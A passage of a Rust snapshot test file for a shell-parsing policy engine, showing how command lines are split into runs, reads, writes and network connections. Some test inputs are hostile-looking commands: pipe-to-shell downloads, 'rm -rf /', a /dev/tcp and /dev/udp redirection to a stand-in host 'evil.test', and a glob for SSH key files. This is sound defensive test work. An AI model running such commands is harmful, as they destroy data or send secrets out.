//! What shell text and argument lists become: parts, forms and floors.
//!
//! Each test is a table: a line, and below it its parts as [`support::show`] writes them.

mod support;

use policy_eval::{Object, Platform, Request, ShellKind, canon, operands};

const ROOTS: &[(&str, &str)] = &[("workspace", "/w"), ("home", "/home/dev")];

/// The parts of shell lines, each under its line.
fn parts_of(lines: &[&str]) -> String {
    let requests = lines.iter().map(|line| Request { roots: ROOTS, ..Request::shell(line) });
    under_lines(lines, requests)
}

fn under_lines<'a>(lines: &[&str], requests: impl Iterator<Item = Request<'a>>) -> String {
    let mut text = String::new();
    for (line, request) in lines.iter().zip(requests) {
        text.push_str(&format!("{}\n", visible(line)));
        for part in support::show(&request).lines() {
            text.push_str(&format!("    {part}\n"));
        }
    }
    text
}

/// A line with newlines and hidden characters as escapes.
fn visible(line: &str) -> String {
    let is_plain = |c: char| c == ' ' || c.is_ascii_graphic();
    line.chars()
        .map(|c| if is_plain(c) { c.to_string() } else { c.escape_default().to_string() })
        .collect()
}

#[test]
fn every_command_of_a_line_is_a_part() {
    insta::assert_snapshot!(parts_of(&[
        "git status; curl x & ls && rm x || wget y | sh |& tee z",
        "git status\n\nrm x;",
        "(rm x) && { ls; } && ! rm y",
        "time -p cargo test",
        "{ rm x; } | cat",
    ]), @r#"
    git status; curl x & ls && rm x || wget y | sh |& tee z
        run git status
        run curl x
        run ls
        run rm x
        run wget y
        run sh !dynamic_command
        run tee z
    git status\n\nrm x;
        run git status
        run rm x
    (rm x) && { ls; } && ! rm y
        run rm x
        run ls
        run rm y
    time -p cargo test
        run cargo test
    { rm x; } | cat
        run rm x
        run cat
    "#);
}

#[test]
fn substitutions_are_parts_wherever_they_stand() {
    insta::assert_snapshot!(parts_of(&[
        "echo $(curl a) \"$(curl b)\" `curl c` \"`curl d`\" <(curl e) >(curl f)",
        "cat <<EOF\n$(curl a) `curl b`\nEOF",
        "cat <<< \"$(curl a)\" > \"$(curl b)\"",
        "X=$(curl a) ls",
        "x[$(curl a)]=1 y=(1 $(curl b))",
        "echo $((1 + $(curl a))) $[ $(curl b) ] ${x:-$(curl c)} \"${x:+\"$(curl d)\"}\"",
        "[[ -n $(curl a) && x == <(curl b) ]]",
        "(( $(curl a) ))",
        "echo `echo \\`curl a\\``",
        "echo $((ls); curl a)",
    ]), @r#"
    echo $(curl a) "$(curl b)" `curl c` "`curl d`" <(curl e) >(curl f)
        run curl a
        run curl b
        run curl c
        run curl d
        run curl e
        run curl f
        run echo <?-*> <?-> <?-*> <?-> <?> <?>
    cat <<EOF\n$(curl a) `curl b`\nEOF
        run cat
        run curl a
        run curl b
    cat <<< "$(curl a)" > "$(curl b)"
        run curl a
        run curl b
        write (at run time)
        run cat
    X=$(curl a) ls
        run curl a
        run ls !assignments
    x[$(curl a)]=1 y=(1 $(curl b))
        run curl a
        run curl b
        run (nothing) !assignments
    echo $((1 + $(curl a))) $[ $(curl b) ] ${x:-$(curl c)} "${x:+"$(curl d)"}"
        run curl a
        run curl b
        run curl c
        run curl d
        run echo <?-*> <?-*> <?-*> <?-*>
        run (unknown) !dynamic_command
    [[ -n $(curl a) && x == <(curl b) ]]
        run curl a
        run curl b
        run (nothing) !control_flow
    (( $(curl a) ))
        run curl a
        run (nothing) !control_flow
    echo `echo \`curl a\``
        run curl a
        run echo <?-*>
        run echo <?-*>
    echo $((ls); curl a)
        run ls
        run curl a
        run echo <?-*>
        run (unknown) !syntax
    "#);
}

#[test]
fn a_heredoc_whose_delimiter_is_quoted_is_text() {
    insta::assert_snapshot!(parts_of(&[
        "cat <<'EOF'\n$(rm -rf /)\nEOF",
        "cat <<\"E\"OF\n$(rm -rf /)\nEOF\nls",
        "cat <<\\EOF\n`rm x`\nEOF",
        "cat <<EOF\n\\$(rm x)\nEOF",
        "cat <<-EOF\n\thello\n\tEOF\nrm x",
        "cat <<EOF; ls\nhi\nEOF",
        "cat <<A <<B\n$(curl a)\nA\n$(curl b)\nB\nls",
        "cat <<EOF\nfoo\\\nEOF\n$(curl a)\nEOF",
    ]), @r#"
    cat <<'EOF'\n$(rm -rf /)\nEOF
        run cat
    cat <<"E"OF\n$(rm -rf /)\nEOF\nls
        run cat
        run ls
    cat <<\EOF\n`rm x`\nEOF
        run cat
    cat <<EOF\n\$(rm x)\nEOF
        run cat
    cat <<-EOF\n\thello\n\tEOF\nrm x
        run cat
        run rm x
    cat <<EOF; ls\nhi\nEOF
        run cat
        run ls
    cat <<A <<B\n$(curl a)\nA\n$(curl b)\nB\nls
        run cat
        run curl a
        run curl b
        run ls
    cat <<EOF\nfoo\\nEOF\n$(curl a)\nEOF
        run cat
        run curl a
        run (unknown) !syntax
    "#);
}

#[test]
fn quotes_and_escapes_are_removed() {
    insta::assert_snapshot!(parts_of(&[
        "r''m \"-rf\" 'a b' r\\m cu\\\nrl \"x\\\ny\" $'\\x72\\155\\t' '' a\"b\"'c'",
        "git log --grep='fix; rm' \"don't\" it\\;em \\\"q\\\" \"a\\$b\\q\"",
        "echo $'a\\0b'c $'\\u72' \"$\" $ \"a$\" $\"t\"",
    ]), @r#"
    r''m "-rf" 'a b' r\m cu\\nrl "x\\ny" $'\x72\155\t' '' a"b"'c'
        run rm -rf "a b" rm curl xy "rm\t" "" abc
    git log --grep='fix; rm' "don't" it\;em \"q\" "a\$b\q"
        run git log "--grep=fix; rm" "don't" "it;em" "\"q\"" "a$b\\q"
    echo $'a\0b'c $'\u72' "$" $ "a$" $"t"
        run echo ac r "$" "$" "a$" <?->
    "#);
}

#[test]
fn words_that_are_known_only_at_run_time() {
    insta::assert_snapshot!(parts_of(&[
        "ls $X \"$X\" a$X \"a$X\" ${X} $? $$ $# $! a$IFS a$_ ~ ~/x ~root a~ HEAD~1 x=~/y",
        "ls *.rs src/*.rs [ab] a[b {a,b} src/{a,b} {1..3} {} {a} a{b \"{a,b}\" '*'",
        "cat $HOME/x \"${HOME}/x\" \"$HOME\" $HOMEx \"$HOME\"x ~/.s*/id",
        "X=1; ls a$X",
        "HOME=/etc; cat ~/x",
    ]), @r#"
    ls $X "$X" a$X "a$X" ${X} $? $$ $# $! a$IFS a$_ ~ ~/x ~root a~ HEAD~1 x=~/y
        run ls <?-*> <?-> <?*> <?> <?-*> <?-*> <?-*> <?-*> <?-*> <?-*> <?-*> <~-> <~/x-> <?-> "a~" "HEAD~1" <?>
    ls *.rs src/*.rs [ab] a[b {a,b} src/{a,b} {1..3} {} {a} a{b "{a,b}" '*'
        run ls <?-*> <?*> <?-*> "a[b" <?-*> <?*> <?-*> "{}" "{a}" "a{b" "{a,b}" "*"
    cat $HOME/x "${HOME}/x" "$HOME" $HOMEx "$HOME"x ~/.s*/id
        run cat <~/x-*> <~/x-> <~-> <?-*> <?-> <?-*>
    X=1; ls a$X
        run ls <?-*>
        run (nothing) !assignments
    HOME=/etc; cat ~/x
        run cat <?->
        run (nothing) !assignments
    "#);
}

#[test]
fn expansions_that_are_not_accepted_are_dynamic() {
    insta::assert_snapshot!(parts_of(&[
        "ls $1",
        "ls a\"$9\"",
        "ls \"$@\"",
        "ls $* $0 $-",
        "ls ${1}",
        "ls ${#}",
        "ls ${x%y}",
        "ls $((1))",
        "cat <<E\ncosts $5\nE",
        "case \"$1\" in a) ls;; esac",
    ]), @r#"
    ls $1
        run ls <?-*> !dynamic_command
    ls a"$9"
        run ls <?> !dynamic_command
    ls "$@"
        run ls <?-*> !dynamic_command
    ls $* $0 $-
        run ls <?-*> <?-*> <?-*> !dynamic_command
    ls ${1}
        run ls <?-*>
        run (unknown) !dynamic_command
    ls ${#}
        run ls <?-*>
        run (unknown) !dynamic_command
    ls ${x%y}
        run ls <?-*>
        run (unknown) !dynamic_command
    ls $((1))
        run ls <?-*>
        run (unknown) !dynamic_command
    cat <<E\ncosts $5\nE
        run cat
    case "$1" in a) ls;; esac
        run ls
        run (nothing) !control_flow
    "#);
}

#[test]
fn a_name_that_is_computed_is_dynamic() {
    insta::assert_snapshot!(parts_of(&[
        "$x y",
        "$(echo rm) -rf x",
        "c{u,}rl x",
        "/usr/bin/cur? x",
        "~/bin/x y",
        "'' x",
    ]), @r#"
    $x y
        run <?-*> y !dynamic_command
    $(echo rm) -rf x
        run echo rm
        run <?-*> -rf x !dynamic_command
    c{u,}rl x
        run <?*> x !dynamic_command
    /usr/bin/cur? x
        run <?*> x !dynamic_command
    ~/bin/x y
        run <~/bin/x-> y !dynamic_command
    '' x
        run "" x !syntax
    "#);
}

#[test]
fn forms_of_a_program_that_is_given_by_path() {
    insta::assert_snapshot!(parts_of(&[
        "/usr/bin/git status",
        "/bin//rm x",
        "./git status",
        "/opt/x/rm x",
        "/usr/bin/../../opt/ls",
        "bin/../git status",
    ]), @r#"
    /usr/bin/git status
        run git status | /usr/bin/git status
    /bin//rm x
        run rm x | /bin//rm x
    ./git status
        run ./git status | ~git status
    /opt/x/rm x
        run /opt/x/rm x | ~rm x
    /usr/bin/../../opt/ls
        run /usr/bin/../../opt/ls | ~ls
    bin/../git status
        run bin/../git status | ~git status
    "#);
}

#[test]
fn forms_without_global_options() {
    insta::assert_snapshot!(parts_of(&[
        "git --no-pager log",
        "git -P -C x push",
        "git -c a=b --git-dir=y push",
        "git -C $X push --force",
        "docker --context prod ps",
        "cargo +nightly --config x test",
    ]), @r#"
    git --no-pager log
        run git log | git --no-pager log
    git -P -C x push
        run git -C x push | git -P -C x push | ~git push
    git -c a=b --git-dir=y push
        run git -c a=b --git-dir=y push | ~git push
    git -C $X push --force
        run git -C <?-*> push --force | ~git push --force
    docker --context prod ps
        run docker --context prod ps | ~docker ps
    cargo +nightly --config x test
        run cargo +nightly --config x test | ~cargo test
    "#);
}

#[test]
fn transparent_wrappers_are_what_they_wrap() {
    insta::assert_snapshot!(parts_of(&[
        "timeout -s KILL --foreground 5 rm x",
        "nice -n 5 nohup rm x",
        "nice -10 rm x",
        "stdbuf -oL rm x",
        "env -i -u A LANG=C FOO=1 rm x",
        "env RUST_LOG=debug cargo test",
        "env",
        "command -p rm x",
        "command -v rm",
        "builtin cd src",
        "env -S 'rm -rf x'",
        "env $X rm x",
        "timeout --what 5 rm x",
        "timeout $T rm x",
        "./timeout 5 rm x",
    ]), @r#"
    timeout -s KILL --foreground 5 rm x
        run rm x | ~timeout -s KILL --foreground 5 rm x
    nice -n 5 nohup rm x
        run rm x | ~nohup rm x | ~nice -n 5 nohup rm x
    nice -10 rm x
        run rm x | ~nice -10 rm x
    stdbuf -oL rm x
        run rm x | ~stdbuf -oL rm x
    env -i -u A LANG=C FOO=1 rm x
        run rm x | ~env -i -u A LANG=C FOO=1 rm x !assignments
    env RUST_LOG=debug cargo test
        run cargo test | ~env RUST_LOG=debug cargo test
    env
        run env
    command -p rm x
        run rm x | ~command -p rm x
    command -v rm
        run command -v rm
    builtin cd src
        run cd src | ~builtin cd src @ /w/src
    env -S 'rm -rf x'
        run env -S "rm -rf x" | ~rm -rf x !dynamic_command
    env $X rm x
        run env <?-*> rm x | ~rm x !dynamic_command
        run env <?-*> rm x | ~x !dynamic_command
    timeout --what 5 rm x
        run timeout --what 5 rm x | ~rm x !dynamic_command
        run timeout --what 5 rm x | ~5 rm x !dynamic_command
        run timeout --what 5 rm x | ~x !dynamic_command
    timeout $T rm x
        run timeout <?-*> rm x | ~rm x !dynamic_command
        run timeout <?-*> rm x | ~x !dynamic_command
    ./timeout 5 rm x
        run ./timeout 5 rm x | ~timeout 5 rm x | ~rm x
    "#);
}

#[test]
fn shells_with_a_script() {
    insta::assert_snapshot!(parts_of(&[
        "bash -c 'ls; rm x'",
        "sh -c \"sh -c 'curl x'\"",
        "bash -euo pipefail -c 'ls' name arg",
        "bash -c 'FOO=1'",
        "bash -c \"$X\"",
        "bash -c",
        "bash script.sh",
        "bash -i -c ls",
        "bash -o errexit -c ls",
        "bash -O extglob -c ls",
        "bash < file",
        "bash --rcfile x -c ls",
        "sh -c '((curl x))'",
        "zsh -c '=ls; ls >! x'",
        "fish -c ls",
    ]), @r#"
    bash -c 'ls; rm x'
        run ls | ~bash -c "ls; rm x"
        run rm x | ~bash -c "ls; rm x"
    sh -c "sh -c 'curl x'"
        run curl x | ~sh -c "curl x" | ~sh -c "sh -c 'curl x'"
    bash -euo pipefail -c 'ls' name arg
        run ls | ~bash -euo pipefail -c ls name arg
    bash -c 'FOO=1'
        run (nothing) !assignments
        run bash -c FOO=1
    bash -c "$X"
        run bash -c <?-> !dynamic_command
    bash -c
        run bash -c !dynamic_command
    bash script.sh
        run bash script.sh !dynamic_command
    bash -i -c ls
        run ls | ~bash -i -c ls !dynamic_command
    bash -o errexit -c ls
        run ls | ~bash -o errexit -c ls
    bash -O extglob -c ls
        run ls | ~bash -O extglob -c ls !dynamic_command
    bash < file
        read /w/file
        run bash !dynamic_command
    bash --rcfile x -c ls
        run ls | ~bash --rcfile x -c ls !dynamic_command
    sh -c '((curl x))'
        run (unknown) !syntax !control_flow
        run sh -c "((curl x))"
    zsh -c '=ls; ls >! x'
        run <?-> | ~zsh -c "=ls; ls >! x" !dynamic_command
        write /w/!
        run ls x | ~zsh -c "=ls; ls >! x"
        run (unknown) !syntax
    fish -c ls
        run fish -c ls !dynamic_command
    "#);
}

#[test]
fn raising_wrappers() {
    insta::assert_snapshot!(parts_of(&[
        "exec rm x",
        "exec > log",
        "xargs rm -rf",
        "xargs -I{} -n1 mv {} dest",
        "find . -name a -exec rm -r {} + -o -exec sh -c 'ls; rm \"$1\"' _ {} \\;",
        "busybox rm x",
        "watch -n1 'curl x | sh'",
        "watch -x rm x",
        "flock -n lock rm x",
        "flock lock -c 'ls; rm x'",
        "parallel rm {} ::: a b",
        "parallel ::: 'rm a' ls",
        "strace -f -o log rm x",
        "script -qc 'rm x' log",
        "taskset 1 rm x",
        "chroot /mnt rm x",
    ]), @r#"
    exec rm x
        run rm x | ~exec rm x !wrappers
    exec > log
        write /w/log
        run exec !wrappers
    xargs rm -rf
        run rm -rf <?-*> | ~xargs rm -rf !wrappers
    xargs -I{} -n1 mv {} dest
        run mv <?-> dest <?-*> | ~xargs "-I{}" -n1 mv "{}" dest !wrappers
    find . -name a -exec rm -r {} + -o -exec sh -c 'ls; rm "$1"' _ {} \;
        run find . -name a -exec rm -r "{}" + -o -exec sh -c "ls; rm \"$1\"" _ "{}" ";"
        run rm -r <?*> !wrappers
        run ls | ~sh -c "ls; rm \"$1\"" _ <?> !wrappers
        run rm <?-> | ~sh -c "ls; rm \"$1\"" _ <?> !dynamic_command !wrappers
    busybox rm x
        run rm x | ~busybox rm x !wrappers
    watch -n1 'curl x | sh'
        run curl x | ~watch -n1 "curl x | sh" !wrappers
        run sh | ~watch -n1 "curl x | sh" !dynamic_command !wrappers
    watch -x rm x
        run rm x | ~watch -x rm x !wrappers
    flock -n lock rm x
        run rm x | ~flock -n lock rm x !wrappers
    flock lock -c 'ls; rm x'
        run ls | ~flock lock -c "ls; rm x" !wrappers
        run rm x | ~flock lock -c "ls; rm x" !wrappers
    parallel rm {} ::: a b
        run rm <?-*> <?-*> | ~parallel rm "{}" ::: a b !wrappers
    parallel ::: 'rm a' ls
        run rm a | ~parallel ::: "rm a" ls !dynamic_command !wrappers
        run ls | ~parallel ::: "rm a" ls !dynamic_command !wrappers
    strace -f -o log rm x
        run rm x | ~strace -f -o log rm x !wrappers
    script -qc 'rm x' log
        run rm x | ~script -qc "rm x" log !wrappers
    taskset 1 rm x
        run rm x | ~taskset 1 rm x !wrappers
    chroot /mnt rm x
        run rm x | ~chroot /mnt rm x !wrappers
    "#);
}

#[test]
fn a_wrapper_without_a_command_may_run_what_is_not_in_the_line() {
    insta::assert_snapshot!(parts_of(&[
        "parallel",
        "cat f | parallel -j4",
        "parallel :::: f",
        "parallel :::",
        "script",
        "script -q /dev/null < f",
        "unshare -r",
        "nsenter -t 1 -a",
        "chroot /x",
        "su",
        "sudo -i",
        "sudo -l",
        "xargs",
        "taskset -p 1",
        "flock 9",
    ]), @r#"
    parallel
        run parallel !dynamic_command !wrappers
    cat f | parallel -j4
        run cat f
        run parallel -j4 !dynamic_command !wrappers
    parallel :::: f
        run f | ~parallel :::: f !dynamic_command !wrappers
    parallel :::
        run parallel ::: !dynamic_command !wrappers
    script
        run script !dynamic_command !wrappers
    script -q /dev/null < f
        read /w/f
        run script -q /dev/null !dynamic_command !wrappers
    unshare -r
        run unshare -r !dynamic_command !wrappers
    nsenter -t 1 -a
        run nsenter -t 1 -a !dynamic_command !wrappers
    chroot /x
        run chroot /x !dynamic_command !wrappers
    su
        run su !dynamic_command
    sudo -i
        run sudo -i !dynamic_command
    sudo -l
        run sudo -l
    xargs
        run xargs !wrappers
    taskset -p 1
        run taskset -p 1 !wrappers
    flock 9
        run flock 9 !wrappers
    "#);
}

#[test]
fn what_replaces_a_text_is_not_known() {
    insta::assert_snapshot!(parts_of(&[
        "parallel {} ::: a",
        "parallel sh -c {} ::: a",
        "parallel 'rm {} && ls {.}' ::: a",
        "parallel 'rm \"{}\"' ::: a",
        "parallel 'ls;' ::: a",
        "parallel -I% rm % ::: a",
        "xargs -I{} {}",
        "xargs -I% sh -c 'curl %'",
        "xargs -I {} bash -c 'echo {}; curl x > {}'",
        "xargs -I{} nice sh -c \"sh -c 'curl {}'\"",
        "find . -exec sh -c 'curl {}' \\;",
        "find . -exec {} \\;",
    ]), @r#"
    parallel {} ::: a
        run <?-*> <?-*> | ~parallel "{}" ::: a !dynamic_command !wrappers
    parallel sh -c {} ::: a
        run <?-*> | ~sh -c <?-*> <?-*> | ~parallel sh -c "{}" ::: a !dynamic_command !wrappers
    parallel 'rm {} && ls {.}' ::: a
        run rm <?-*> | ~parallel "rm {} && ls {.}" ::: a !wrappers
        run ls <?-*> <?-*> | ~parallel "rm {} && ls {.}" ::: a !wrappers
    parallel 'rm "{}"' ::: a
        run rm <?-*> <?-*> | ~parallel "rm \"{}\"" ::: a !dynamic_command !wrappers
    parallel 'ls;' ::: a
        run ls | ~parallel "ls;" ::: a !wrappers
        run <?-*> | ~parallel "ls;" ::: a !dynamic_command !wrappers
    parallel -I% rm % ::: a
        run parallel -I% rm % ::: a | ~rm % <?-*> !dynamic_command !wrappers
    xargs -I{} {}
        run <?-> <?-*> | ~xargs "-I{}" "{}" !dynamic_command !wrappers
    xargs -I% sh -c 'curl %'
        run curl <?-> | ~sh -c <?-> <?-*> | ~xargs -I% sh -c "curl %" !dynamic_command !wrappers
    xargs -I {} bash -c 'echo {}; curl x > {}'
        run echo <?-> | ~bash -c <?-> <?-*> | ~xargs -I "{}" bash -c "echo {}; curl x > {}" !dynamic_command !wrappers
        write (at run time) !dynamic_command !wrappers
        run curl x | ~bash -c <?-> <?-*> | ~xargs -I "{}" bash -c "echo {}; curl x > {}" !dynamic_command !wrappers
    xargs -I{} nice sh -c "sh -c 'curl {}'"
        run curl <?-> | ~sh -c <?-> | ~sh -c <?-> <?-*> | ~nice sh -c <?-> <?-*> | ~xargs "-I{}" nice sh -c "sh -c 'curl {}'" !dynamic_command !wrappers
    find . -exec sh -c 'curl {}' \;
        run find . -exec sh -c "curl {}" ";"
        run curl <?> | ~sh -c <?> !dynamic_command !wrappers
    find . -exec {} \;
        run find . -exec "{}" ";"
        run <?> !dynamic_command !wrappers
    "#);
}

#[test]
fn a_command_that_is_an_option_of_its_wrapper_is_scanned() {
    insta::assert_snapshot!(parts_of(&[
        "script -c 'ls; rm x' log",
        "script --command='ls; rm x' log",
        "script --command 'rm x'",
        "script --comm='rm x'",
        "script -qc'rm x'",
        "flock lock -c \"$X\"",
        "su - root -c 'rm x'",
    ]), @r#"
    script -c 'ls; rm x' log
        run ls | ~script -c "ls; rm x" log !wrappers
        run rm x | ~script -c "ls; rm x" log !wrappers
    script --command='ls; rm x' log
        run ls | ~script "--command=ls; rm x" log !wrappers
        run rm x | ~script "--command=ls; rm x" log !wrappers
    script --command 'rm x'
        run rm x | ~script --command "rm x" !wrappers
    script --comm='rm x'
        run script "--comm=rm x" | ~rm x !dynamic_command !wrappers
    script -qc'rm x'
        run script "-qcrm x" | ~rm x !dynamic_command !wrappers
    flock lock -c "$X"
        run flock lock -c <?-> | ~<?-> !dynamic_command !wrappers
        run flock lock -c <?-> | ~lock -c <?-> !dynamic_command !wrappers
    su - root -c 'rm x'
        run su - root -c "rm x" | ~rm x
    "#);
}

#[test]
fn where_options_are_not_known_each_later_word_may_be_the_command() {
    insta::assert_snapshot!(parts_of(&[
        "strace --output o curl x",
        "timeout --foo 5 rm -rf x",
        "timeout -k $X rm x",
        "nice --weird rm -rf /",
        "env --unknown x curl y",
        "env FOO=$X ls curl",
        "env -C x ls curl",
        "env -S 'ls; curl x'",
        "stdbuf --foo curl",
        "xargs --weird 5 rm",
        "nice --weird timeout --foo a rm x",
        "sudo --weird u rm x",
    ]), @r#"
    strace --output o curl x
        run strace --output o curl x | ~o curl x !dynamic_command !wrappers
        run strace --output o curl x | ~curl x !dynamic_command !wrappers
        run strace --output o curl x | ~x !dynamic_command !wrappers
    timeout --foo 5 rm -rf x
        run timeout --foo 5 rm -rf x | ~rm -rf x !dynamic_command
        run timeout --foo 5 rm -rf x | ~5 rm -rf x !dynamic_command
        run timeout --foo 5 rm -rf x | ~x !dynamic_command
    timeout -k $X rm x
        run timeout -k <?-*> rm x | ~x !dynamic_command
        run timeout -k <?-*> rm x | ~rm x !dynamic_command
    nice --weird rm -rf /
        run nice --weird rm -rf / | ~rm -rf / !dynamic_command
        run nice --weird rm -rf / | ~/ | ~"" !dynamic_command
    env --unknown x curl y
        run env --unknown x curl y | ~x curl y !dynamic_command
        run env --unknown x curl y | ~curl y !dynamic_command
        run env --unknown x curl y | ~y !dynamic_command
    env FOO=$X ls curl
        run env <?*> ls curl | ~ls curl !dynamic_command
    env -C x ls curl
        run env -C x ls curl | ~ls curl !dynamic_command
    env -S 'ls; curl x'
        run env -S "ls; curl x" | ~ls !dynamic_command
        run env -S "ls; curl x" | ~curl x !dynamic_command
    stdbuf --foo curl
        run stdbuf --foo curl | ~curl !dynamic_command
    xargs --weird 5 rm
        run xargs --weird 5 rm | ~5 rm <?-*> !dynamic_command !wrappers
        run xargs --weird 5 rm | ~rm <?-*> !dynamic_command !wrappers
    nice --weird timeout --foo a rm x
        run nice --weird timeout --foo a rm x | ~rm x | ~timeout --foo a rm x !dynamic_command
        run nice --weird timeout --foo a rm x | ~a rm x | ~timeout --foo a rm x !dynamic_command
        run nice --weird timeout --foo a rm x | ~x | ~timeout --foo a rm x !dynamic_command
        run nice --weird timeout --foo a rm x | ~a rm x !dynamic_command
        run nice --weird timeout --foo a rm x | ~rm x !dynamic_command
        run nice --weird timeout --foo a rm x | ~x !dynamic_command
    sudo --weird u rm x
        run sudo --weird u rm x | ~u rm x
        run sudo --weird u rm x | ~rm x
        run sudo --weird u rm x | ~x
    "#);
}

#[test]
fn what_other_programs_run_is_another_form() {
    insta::assert_snapshot!(parts_of(&[
        "sudo -u root rm x",
        "sudo FOO=1 bash -c 'ls; rm x'",
        "doas rm x",
        "su - -c 'rm x'",
    ]), @r#"
    sudo -u root rm x
        run sudo -u root rm x | ~rm x
    sudo FOO=1 bash -c 'ls; rm x'
        run sudo FOO=1 bash -c "ls; rm x" | ~ls | ~bash -c "ls; rm x"
        run sudo FOO=1 bash -c "ls; rm x" | ~rm x | ~bash -c "ls; rm x"
    doas rm x
        run doas rm x | ~rm x
    su - -c 'rm x'
        run su - -c "rm x" | ~rm x
    "#);
}

#[test]
fn builtins_that_run_text() {
    insta::assert_snapshot!(parts_of(&[
        "eval 'rm' '-rf' x",
        "eval \"$X\"",
        "trap 'rm x' EXIT",
        "source ./env.sh",
        "alias ls='rm x'",
        "read 'a[$(rm x)]'",
        "printf -v 'a[`rm x`]' 1",
        "mapfile -C 'rm x' -c 1 a",
        "let 'a[$(rm x)]'",
    ]), @r#"
    eval 'rm' '-rf' x
        run eval rm -rf x !dynamic_command
        run rm -rf x
    eval "$X"
        run eval <?-> !dynamic_command
    trap 'rm x' EXIT
        run trap "rm x" EXIT !dynamic_command
        run rm x
    source ./env.sh
        run source ./env.sh !dynamic_command
    alias ls='rm x'
        run alias "ls=rm x" !dynamic_command
    read 'a[$(rm x)]'
        run read "a[$(rm x)]" !dynamic_command
    printf -v 'a[`rm x`]' 1
        run printf -v "a[`rm x`]" 1 !dynamic_command
    mapfile -C 'rm x' -c 1 a
        run mapfile -C "rm x" -c 1 a !dynamic_command
    let 'a[$(rm x)]'
        run let "a[$(rm x)]" !dynamic_command
    "#);
}

#[test]
fn variables() {
    insta::assert_snapshot!(parts_of(&[
        "FOO=1",
        "FOO=1 rm x",
        "LANG=C LC_ALL=C TZ=UTC ls",
        "LANG=$X ls",
        "LANG+=C ls",
        "PATH=.:$PATH ls",
        "export A=1",
        "set -e",
        "F\\\nOO=1 rm x",
        "\"FOO\"=1 rm x",
    ]), @r#"
    FOO=1
        run (nothing) !assignments
    FOO=1 rm x
        run rm x !assignments
    LANG=C LC_ALL=C TZ=UTC ls
        run ls
    LANG=$X ls
        run ls !assignments
    LANG+=C ls
        run ls !assignments
    PATH=.:$PATH ls
        run ls !assignments
    export A=1
        run export A=1 !assignments
    set -e
        run set -e !assignments
    F\\nOO=1 rm x
        run rm x !assignments
    "FOO"=1 rm x
        run FOO=1 rm x
    "#);
}

#[test]
fn control_flow() {
    insta::assert_snapshot!(parts_of(&[
        "if ls; then rm x; elif rm y; then rm z; else rm w; fi",
        "while ls; do rm x; done > log",
        "until ls; do rm x; done",
        "for i in $(curl x) b; do rm $i; done",
        "for ((i=0; i<3; i++)); do rm x; done",
        "for i; { rm x; }",
        "select i in a; do rm x; done",
        "case $(curl x) in a|b) rm x;; (c) rm y;& *) rm z; esac",
        "[[ a < b || c =~ ^(d|e)$ ]] && rm x",
        "(( x < 3 )) && rm y",
        "coproc rm x",
        "coproc NAME { rm x; }",
    ]), @r#"
    if ls; then rm x; elif rm y; then rm z; else rm w; fi
        run ls
        run rm x
        run rm y
        run rm z
        run rm w
        run (nothing) !control_flow
    while ls; do rm x; done > log
        run ls
        run rm x
        write /w/log
        run (nothing) !control_flow
    until ls; do rm x; done
        run ls
        run rm x
        run (nothing) !control_flow
    for i in $(curl x) b; do rm $i; done
        run curl x
        run rm <?-*>
        run (nothing) !control_flow
    for ((i=0; i<3; i++)); do rm x; done
        run rm x
        run (nothing) !control_flow
    for i; { rm x; }
        run rm x
        run (nothing) !control_flow
    select i in a; do rm x; done
        run rm x
        run (nothing) !control_flow
    case $(curl x) in a|b) rm x;; (c) rm y;& *) rm z; esac
        run curl x
        run rm x
        run rm y
        run rm z
        run (nothing) !control_flow
    [[ a < b || c =~ ^(d|e)$ ]] && rm x
        run rm x
        run (nothing) !control_flow
    (( x < 3 )) && rm y
        run rm y
        run (nothing) !control_flow
    coproc rm x
        run rm x
        run (nothing) !control_flow
    coproc NAME { rm x; }
        run rm x
        run (nothing) !control_flow
    "#);
}

#[test]
fn functions() {
    insta::assert_snapshot!(parts_of(&[
        "f() { rm x; }",
        "function f { rm x; }",
        "function f() ( rm x )",
        "f() rm x",
        "ls() { curl x; }; ls",
    ]), @r#"
    f() { rm x; }
        run rm x
        run (unknown) !dynamic_command
    function f { rm x; }
        run rm x
        run (unknown) !dynamic_command !control_flow
    function f() ( rm x )
        run rm x
        run (unknown) !dynamic_command !control_flow
    f() rm x
        run rm x
        run (unknown) !syntax !dynamic_command
    ls() { curl x; }; ls
        run curl x
        run ls
        run (unknown) !dynamic_command
    "#);
}

#[test]
fn redirections() {
    insta::assert_snapshot!(parts_of(&[
        "echo > a 2>> b >| c &> d &>> e >& f <> g < h",
        "ls > /dev/null 2>&1 >&2 2>&- <&3 2>/dev/stderr",
        "echo > \"/dev/null/../../etc/hosts\" > /dev/nullx > ~/x > $X > '~/x'",
        "cat </dev/tcp/203.0.113.9/80 > /dev/udp/evil.test/53 > /dev/tcp/$H/1",
        "ls {fd}> x 10< y 2<(curl a) > >(tee z) >&$X <&$X",
        "> x",
        "{ cd /etc; ls; } > x",
    ]), @r#"
    echo > a 2>> b >| c &> d &>> e >& f <> g < h
        write /w/a
        write /w/b
        write /w/c
        write /w/d
        write /w/e
        write /w/f
        read /w/g
        write /w/g
        read /w/h
        run echo
    ls > /dev/null 2>&1 >&2 2>&- <&3 2>/dev/stderr
        run ls
    echo > "/dev/null/../../etc/hosts" > /dev/nullx > ~/x > $X > '~/x'
        write /etc/hosts
        write /dev/nullx
        write /home/dev/x
        write (at run time)
        write /w/~/x
        run echo
    cat </dev/tcp/203.0.113.9/80 > /dev/udp/evil.test/53 > /dev/tcp/$H/1
        connect Ip(203.0.113.9) Some(80)
        read /dev/tcp/203.0.113.9/80
        connect Name("evil.test") Some(53)
        write /dev/udp/evil.test/53
        connect Unsent None
        write (at run time)
        run cat
    ls {fd}> x 10< y 2<(curl a) > >(tee z) >&$X <&$X
        write /w/x
        read /w/y
        run curl a
        run tee z
        write (at run time)
        run ls <?>
    > x
        write /w/x
    { cd /etc; ls; } > x
        run cd /etc @ /etc
        run ls @ /etc
        run ls
        write /w/x
    "#);
}

#[test]
fn the_folder_that_a_command_runs_in() {
    insta::assert_snapshot!(parts_of(&[
        "cd src && ls > log",
        "cd src; ls",
        "cd src || ls",
        "(cd src && ls); ls",
        "cd src | ls; ls",
        "cd src & ls",
        "cd a && cd b && ls",
        "! cd src && ls",
        "cd; ls",
        "cd ~/x && ls",
        "cd - && ls",
        "cd $X && ls",
        "cd a b && ls",
        "cd -P -- src && ls",
        "command cd src && ls",
        "env cd src && ls",
        "pushd src && ls",
        "bash -c 'cd src; ls' && ls",
        "if cd src; then ls; else cat; fi",
        "while ls; do cd ..; done",
        "f() { cd src; }; ls",
        "eval 'cd src' && ls",
        "cd a; cd b; cd c; ls",
        "CDPATH=/x; cd src && ls",
    ]), @r#"
